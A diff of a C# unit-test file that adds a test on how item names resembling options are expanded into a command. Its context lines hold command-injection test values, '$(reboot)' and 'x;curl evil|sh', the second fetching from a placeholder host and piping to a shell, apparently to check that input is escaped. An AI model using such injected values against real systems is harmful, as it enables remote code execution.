@@ -131,6 +131,13 @@ public sealed class FoundItemsTests
     }
 
     [TestMethod]
+    public async Task A_name_that_looks_like_a_file_with_options_is_none()
+    {
+        var plan = await ExpandAsync(["@scope/x"], Of("*/") with { Command = [["test", "{item}", "--in={item}"]] });
+        plan.Hooks.Single().Command[0].ShouldBe(["test", "./@scope", "--in=@scope"]);
+    }
+
+    [TestMethod]
     [DataRow("a b")]
     [DataRow("$(reboot)")]
     [DataRow("x;curl evil|sh")]
